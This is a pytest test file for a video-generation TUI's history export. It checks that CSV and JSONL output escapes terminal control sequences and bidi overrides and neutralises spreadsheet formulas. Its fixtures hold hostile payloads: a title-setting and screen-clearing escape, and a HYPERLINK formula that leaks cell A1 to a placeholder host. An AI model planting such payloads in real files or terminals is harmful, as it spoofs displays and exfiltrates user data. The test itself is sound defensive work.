"""`sora-tui export` on a history holding what a hostile server or a pasted prompt can put there: terminal
control sequences, C1 controls, bidi overrides and spreadsheet formulas. Real `sora-tui` processes, real
history files; the checks are on the bytes written, to stdout and to a file."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from sora_tui.core.job import Job, JobError
from sora_tui.core.params import GenerationParams
from sora_tui.core.status import JobStatus
from sora_tui.store import HistoryStore

TITLE = "\x1b]0;pwned\x07"  # sets the terminal's title
CLEAR = "\x1b[2J"  # clears the screen
RLO = "\u202e"  # right-to-left override: the rest of the line reads backwards
CSI = "\u009b"  # C1 control sequence introducer: CLEAR without the ESC, on many terminals

HOSTILE = {
    "video_id": f"video_{TITLE}{CLEAR}{RLO}{CSI}2J",
    "prompt": f"a kite {TITLE} over {CLEAR} the {RLO}sea{CSI}2J and a DEL\x7f and a CR\r here",
    "error": f"moderation {CLEAR}blocked{TITLE} {RLO}{CSI}",
    "notes": f"{TITLE}{RLO}{CSI}notes",
}
FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click me")', "+1", "-2", "@SUM(A1:A9)",
            "\tTAB first", "\rCR first"]
ORDINARY = ["夕暮れの灯台、波とカモメ、ゆっくりとしたドリー 🪁",
            'a "red" kite, over the sea; 35mm, 🌊 warm light',
            "a kite\nover two lines"]

RAW_UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _history(home: Path) -> dict[str, Job]:
    """The jobs, by prompt, as they were stored (created a second apart, so the export's order is known)."""
    store = HistoryStore(home / "history.json")
    jobs: dict[str, Job] = {}
    hostile = Job.new(GenerationParams(HOSTILE["prompt"]), video_id=HOSTILE["video_id"],
                      notes=HOSTILE["notes"], tags=[f"tag{CSI}{RLO}"], status=JobStatus.FAILED,
                      error=JobError("moderation_blocked", HOSTILE["error"]))
    for at, job in enumerate([hostile, *(Job.new(GenerationParams(p), video_id=f"video_{i}")
                                         for i, p in enumerate(FORMULAS + ORDINARY))]):
        job.created_at = job.updated_at = 1_765_000_000.0 + at
        store.add(job)
        jobs[job.params.prompt] = job
    store.close()
    again = HistoryStore(home / "history.json")
    try:  # stored exactly as given: the export is what has to make them safe
        assert again.get(hostile.local_id) == hostile
    finally:
        again.close()
    return jobs


def _run(home: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "SORA_TUI_"))}
    env["SORA_TUI_HOME"] = str(home)
    proc = subprocess.run([sys.executable, "-m", "sora_tui", *args], check=False, capture_output=True,
                          env=env, stdin=subprocess.DEVNULL, timeout=120)
    assert proc.returncode == 0 and b"Traceback" not in proc.stderr, proc.stderr.decode(errors="replace")
    return proc


def _outputs(home: Path, tmp_path: Path, fmt: str) -> dict[str, bytes]:
    """The export's bytes on stdout and in a file (--out)."""
    target = tmp_path / f"history.{fmt}"
    to_stdout = _run(home, "export", "--format", fmt).stdout
    _run(home, "export", "--format", fmt, "--out", str(target))
    return {"stdout": to_stdout, "--out": target.read_bytes()}


def _no_raw_controls(data: bytes) -> None:
    text = data.decode("utf-8")  # also: valid UTF-8 throughout
    rows = text.replace("\r\n", "\n")  # CSV's own row ends; a carriage return anywhere else is a control
    found = {f"U+{ord(c):04X}" for c in RAW_UNSAFE.findall(rows)} | ({"CR"} if "\r" in rows else set())
    assert not found, f"raw control characters in the export: {sorted(found)}"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    h = tmp_path / "home"
    h.mkdir()
    return h


def test_csv_export_escapes_controls_visibly_and_neutralises_formulas(home: Path, tmp_path: Path) -> None:
    jobs = _history(home)
    for where, data in _outputs(home, tmp_path, "csv").items():
        _no_raw_controls(data)
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
        header, body = rows[0], rows[1:]
        assert header[:7] == ["local_id", "video_id", "status", "model", "size", "seconds", "prompt"], where
        assert len(body) == len(jobs), where
        by_id = {row[0]: dict(zip(header, row)) for row in body}
        hostile = by_id[jobs[HOSTILE["prompt"]].local_id]
        assert hostile["video_id"] == r"video_\x1b]0;pwned\x07\x1b[2J\u202e\x9b2J", where
        assert hostile["prompt"] == (r"a kite \x1b]0;pwned\x07 over \x1b[2J the \u202esea\x9b2J and a DEL\x7f"
                                     r" and a CR\x0d here"), where
        for prompt in FORMULAS:  # OWASP: a leading ' keeps a spreadsheet from reading a formula
            cell = by_id[jobs[prompt].local_id]["prompt"]
            assert cell == "'" + prompt.replace("\r", r"\x0d"), (where, cell)
        for row in body:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (where, row)
        for prompt in ORDINARY:  # ordinary text, newline included, byte for byte what it was before
            job = jobs[prompt]
            before = io.StringIO()
            csv.writer(before).writerow([
                job.local_id, job.video_id, job.status.value, job.params.model, job.params.size,
                job.params.seconds, prompt, time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(job.created_at)),
                f"{job.cost_estimate:.2f}", "", ""])
            assert before.getvalue().encode() in data, (where, prompt)
            assert by_id[job.local_id]["prompt"] == prompt


def test_jsonl_export_escapes_c1_and_bidi_and_reads_back_exactly(home: Path, tmp_path: Path) -> None:
    jobs = _history(home)
    for where, data in _outputs(home, tmp_path, "jsonl").items():
        _no_raw_controls(data)
        lines = data.decode("utf-8").split("\n")
        assert lines[-1] == "" and len(lines) - 1 == len(jobs), where
        docs = [json.loads(line) for line in lines[:-1]]
        for doc, job in zip(docs, reversed(list(jobs.values()))):  # newest first
            assert doc == {**job.to_doc(), "id": job.video_id}, where  # the very strings stored, every field
        hostile = docs[-1]
        assert hostile["id"] == HOSTILE["video_id"] and hostile["params"]["prompt"] == HOSTILE["prompt"]
        assert hostile["error"]["message"] == HOSTILE["error"] and hostile["notes"] == HOSTILE["notes"]
        assert "\\u009b" in lines[-2] and "\\u202e" in lines[-2] and "\\u001b" in lines[-2], where
        for line, job in zip(lines, reversed(list(jobs.values()))):
            if job.params.prompt in ORDINARY:  # ordinary text: byte for byte what json.dumps writes
                assert line == json.dumps({**job.to_doc(), "id": job.video_id}, ensure_ascii=False), where
        assert ORDINARY[0].encode() in data, where  # Japanese and emoji as UTF-8, not \u escapes
